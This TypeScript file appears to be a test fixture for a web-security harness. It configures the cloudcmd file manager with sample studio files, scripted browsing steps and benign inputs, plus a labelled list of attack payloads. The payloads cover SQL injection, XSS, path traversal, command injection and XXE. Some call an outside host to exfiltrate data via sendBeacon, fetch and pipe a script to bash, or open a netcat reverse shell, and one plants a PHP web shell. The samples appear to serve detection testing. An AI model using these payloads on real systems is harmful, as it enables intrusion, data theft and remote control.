// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks hold such text literally.
import { type Application, confinedNode } from "../application.ts";

/** The recorder's folder begins with a dot, and below such a one `send` serves nothing, the editor's own scripts among it. */
const serveDotted = `
const { Module } = require("node:module");
const load = Module._load;
Module._load = function (name, ...rest) {
  const loaded = load.call(this, name, ...rest);
  if (name !== "send") return loaded;
  return Object.assign((request, path, options) => loaded(request, path, { ...options, dotfiles: "allow" }), loaded);
};
`;

const shared: Readonly<Record<string, string>> = {
  "readme.md": "# Studio share\n\nPut finished work into delivered, everything else into drafts.\n",
  "drafts/poster.svg":
    '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="300"><text x="20" y="40">Autumn fair</text></svg>\n',
  "drafts/letter.txt": "Dear Ms. Varga,\n\nthe proofs are in this folder.\n",
  "drafts/menu.html": "<!doctype html>\n<title>Menu</title>\n<ul>\n<li>Soup</li>\n</ul>\n",
  "drafts/prices.csv": "item;price\npaper A3;0.40\nbinding;3.50\n",
  "delivered/2026-02 fair/list.txt": "12 posters\n200 leaflets\n",
  "delivered/2026-02 fair/invoice.md": "| what | amount |\n|---|---|\n| posters | 96.00 |\n",
  "delivered/2026-01 calendar/notes.txt": "Reprint of page 7.\n",
  "site/index.html": "<!doctype html>\n<h1>Print studio</h1>\n",
  "site/style.css": "body { font: 16px/1.5 serif }\n",
  "site/main.js": "document.title = 'Print studio';\n",
  "scripts/backup.sh": "#!/bin/sh\ntar czf backup.tgz site\n",
  "scripts/nginx.conf": "server { listen 80; root /srv/site; }\n",
  "scripts/report.sql": "select customer, sum(total) from invoices group by customer;\n",
};

const editor = "textarea:visible";
const opened = `${editor}, [data-name=js-input]:visible`;
const currentFile = ".current-file [data-name=js-type].file";

/** A file manager with an editor; its visitors go through folders, make some, and write into files. */
export const cloudcmd: Application = {
  name: "cloudcmd",
  // The later ones depend on a package that not every mirror of the registry has.
  packages: { npm: ["cloudcmd@18.8.11"] },
  files: ({ data }) => ({
    "dotted.cjs": serveDotted,
    // Whole files are sent, unpacked, as most servers get to see them.
    ".cloudcmd.json": JSON.stringify({
      ip: "127.0.0.1",
      root: `${data}/files`,
      zip: false,
      diff: false,
      buffer: false,
    }),
    ...Object.fromEntries(Object.entries(shared).map(([path, text]) => [`files/${path}`, text])),
  }),
  start: (at) => [
    ...confinedNode(at, "cloudcmd/bin/cloudcmd.mjs", "--require", `${at.data}/dotted.cjs`),
    "--port",
    String(at.port),
    "--editor",
    "dword",
    "--no-open",
    "--no-console",
    "--no-terminal",
    "--no-config-dialog",
    "--no-contact",
  ],
  ready: "/",
  pages: [
    "/",
    "/fs/drafts/",
    "/fs/delivered/",
    "/fs/delivered/2026-02%20fair/",
    "/fs/site/",
    "/fs/scripts/",
    "/fs/delivered/2026-01%20calendar/",
  ],
  avoid: /^\s*F\d|contact|config|delete|move|copy|menu|help|view|edit|directory/i,
  async reach(page, random) {
    const isPanel = (await page.locator(".current-file").count()) > 0;
    if (!isPanel || (await page.locator(opened).count()) > 0) return null;
    const moves = random.between(1, 6);
    for (let i = 0; i < moves; i++) await page.keyboard.press("ArrowDown");
    const isFile = (await page.locator(currentFile).count()) > 0;
    await page.keyboard.press(isFile && random.chance(0.8) ? "F4" : "F7");
    const place = page.locator(opened).first();
    await place.waitFor({ timeout: 4_000 }).catch(() => {});
    await page.waitForTimeout(500);
    return null;
  },
  async submit(page) {
    const isEditing = (await page.locator(editor).count()) > 0;
    await page.keyboard.press(isEditing ? "Control+s" : "Enter");
    await page.waitForTimeout(1_000);
    // What went wrong is told in a dialog, which would lie over everything.
    const told = page.locator("[data-name=js-ok]:visible");
    if ((await told.count()) > 0) await told.first().click({ timeout: 2_000 });
    if (isEditing) await page.keyboard.press("Escape");
    await page.waitForTimeout(500);
    return true;
  },
  texts: {
    searches: [
      "poster",
      "*.svg",
      "invoice 2026",
      "letter.txt",
      "IMG_2041",
      "draft (2)",
      "final_final.pdf",
      "*.{html,css}",
      "fair & market",
      "size>10M",
      "Varga",
      "~backup",
      "node_modules",
      "O'Neill proofs",
      "page 7",
      "Rechnung",
      "été",
      "счёт",
      "名刺",
      "100%.psd",
      "src/main.js",
      "[old]",
      "prices.csv",
      "#12",
      "a=b.txt",
      "thumbs.db",
    ],
    lines: [
      "proofs",
      "2026-03 spring market",
      "O'Neill wedding cards",
      "old (do not use)",
      "fonts & licences",
      "Visitenkarten Groß",
      "cartes postales été",
      "名刺 見本",
      "счета 2026",
      "v2.1-rc1",
      "scan_0001",
      "logo@2x",
      "C64 disks",
      "50 percent",
      "to print!",
      "draft, second",
      "Ms. Varga",
      "a+b tests",
      "src",
      "public_html",
      "backup-2026-03-14",
      "invoices {paid}",
      "site.bak",
      "_archive",
      "paper = A3",
      "tmp",
      "Łódź leaflets",
      "cover; back",
      "don't touch",
      "🖨 queue",
    ],
    long: [
      "server {\n  listen 443 ssl;\n  server_name studio.example;\n  root /srv/site;\n  location ~ \\.php$ { return 404; }\n  location /files/ { proxy_pass http://127.0.0.1:8000/; }\n}",
      '#!/usr/bin/env bash\nset -euo pipefail\nfor f in drafts/*.svg; do\n  out="delivered/$(basename "$f" .svg).pdf"\n  inkscape "$f" --export-filename="$out" || echo "failed: $f" >&2\ndone',
      'Dear Ms. Varga,\n\nthank you for the corrections. Page 7 now reads "Market\'s open", the price is 4.50 (not 4,50), and the bleed is 3 mm.\n\nKind regards,\nthe studio',
      "select c.name, count(*) as jobs, sum(i.total) as total\nfrom customers c join invoices i on i.customer_id = c.id\nwhere i.paid_on is null and i.total > 0\ngroup by c.name having sum(i.total) >= 100\norder by total desc;",
      '<!doctype html>\n<html lang="en">\n<head><meta charset="utf-8"><link rel="stylesheet" href="../style.css">\n<script src="main.js" defer></script></head>\n<body><h1>Print studio</h1><p>It\'s &copy; 2026.</p></body>\n</html>',
      "body { margin: 0 auto; max-width: 60ch; background: url(\"img/paper.png\") }\n@media print { nav, footer { display: none !important } }\na:not(:hover)::after { content: ' \\2192'; }",
      "import { readFile } from 'node:fs/promises';\n\nconst prices = (await readFile('../drafts/prices.csv', 'utf8')).split(/\\r?\\n/).map((l) => l.split(';'));\nfor (const [item, price] of prices) console.log(`${item}: ${Number(price).toFixed(2)} €`);",
      "item;price;note\npaper A3;0.40;\"recycled; 120 g\"\nbinding;3.50;'by hand'\ncutting;=B2*3;\ndiscount;-10%;from 500 sheets",
      '# Delivery notes\n\n- [x] 12 posters (A2)\n- [ ] 200 leaflets, see `delivered/2026-02 fair/list.txt`\n\n> "Leave them with the porter" -- call first: +36 1 555 0148',
      "0 3 * * 1 root tar czf /var/backups/site-$(date +\\%F).tgz -C /srv site && find /var/backups -name 'site-*.tgz' -mtime +60 -delete",
      "version: '3.8'\nservices:\n  web:\n    image: nginx:1.27\n    volumes: [\"./site:/usr/share/nginx/html:ro\"]\n    environment:\n      TZ: Europe/Budapest",
      "Protokoll vom 14.3.: Farben zu kräftig (100 % Magenta), »Herbstmarkt« steht zweimal da; Andruck bis Freitag. Größe: 420 × 594 mm ± 1.",
      'RewriteEngine On\nRewriteCond %{HTTP_HOST} ^studio\\.example$ [NC]\nRewriteRule ^(.*)$ https://www.studio.example/$1 [L,R=301]\n<FilesMatch "\\.(bak|old)$">\n  Require all denied\n</FilesMatch>',
      "<?php\n// contact form of the old site, kept for reference\n$name = htmlspecialchars($_POST['name'] ?? '');\nmail('office@studio.example', \"Question of $name\", wordwrap($_POST['text'], 70));",
      "印刷メモ：表紙は200部、本文は7ページ目だけ刷り直し。納品先：〒100-0001 東京都千代田区1-1（受付へ）。",
      "diff --git a/site/main.js b/site/main.js\n@@ -1,2 +1,2 @@\n-document.title = 'Print studio';\n+document.title = `Print studio (${new Date().getFullYear()})`;",
      '{\n  "paper": {"A3": 0.4, "A2": 0.9},\n  "path": "C:\\\\Studio\\\\Jobs\\\\2026",\n  "tolerance": "±0.5mm",\n  "notify": ["office@studio.example"]\n}',
    ],
  },
  attacks: [
    {
      class: "sql_injection",
      payload:
        "drafts' AND ORD(MID((SELECT IFNULL(CAST(schema_name AS NCHAR),0x20) FROM INFORMATION_SCHEMA.SCHEMATA LIMIT 0,1),1,1))>64-- Qw",
    },
    { class: "sql_injection", payload: "poster.svg')) OR 5=(SELECT COUNT(*) FROM pg_user)--" },
    { class: "sql_injection", payload: "1);WAITFOR DELAY '0:0:7'--" },
    {
      class: "sql_injection",
      payload: "list.txt' UNION SELECT file_name,NULL FROM dba_data_files WHERE ROWNUM<5 AND 'z'='z",
    },
    { class: "sql_injection", payload: "prices' RLIKE (SELECT (CASE WHEN (4412=4412) THEN 0x7072 ELSE 0x28 END))-- x" },
    {
      class: "sql_injection",
      payload: "scan' INTO OUTFILE '..\\\\..\\\\htdocs\\\\s.php' LINES TERMINATED BY 0x3c3f706870-- ",
    },
    {
      class: "xss",
      payload:
        "<img src=x: onerror=\"fetch('..'+'/api/v1/config').then(r=>r.text()).then(t=>navigator.sendBeacon('//203.0.113.61',t))\">",
    },
    { class: "xss", payload: 'poster" onmouseover="alert(document.domain)" style="position:fixed;inset:0' },
    {
      class: "xss",
      payload: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect width="9"/></svg>',
    },
    { class: "xss", payload: '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>' },
    {
      class: "xss",
      payload: '<object data=javascript:alert`cloud`><embed code="//203.0.113.61/x.swf" allowscriptaccess=always>',
    },
    { class: "path_traversal", payload: "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fssh%2fsshd_config" },
    { class: "path_traversal", payload: "delivered\\..\\..\\..\\..\\..\\boot.ini" },
    { class: "path_traversal", payload: "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5csystem32%5cdrivers%5cetc%5chosts" },
    { class: "path_traversal", payload: "..%252f..%252f..%252f..%252fvar%252flog%252fauth.log%2500.txt" },
    { class: "command_injection", payload: "proofs$(wget -qO- http://203.0.113.61/i.sh|bash)" },
    { class: "command_injection", payload: "backup.tgz;nc -e /bin/sh 203.0.113.61 9001" },
    { class: "command_injection", payload: "<?php @eval(base64_decode($_REQUEST['c']));system($_GET['cmd']); ?>" },
    { class: "command_injection", payload: "a.txt%0als${IFS}-la${IFS}/root%0a" },
    {
      class: "xxe",
      payload:
        '<?xml version="1.0" standalone="no"?><!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text y="9">&f;</text></svg>',
    },
  ],
};
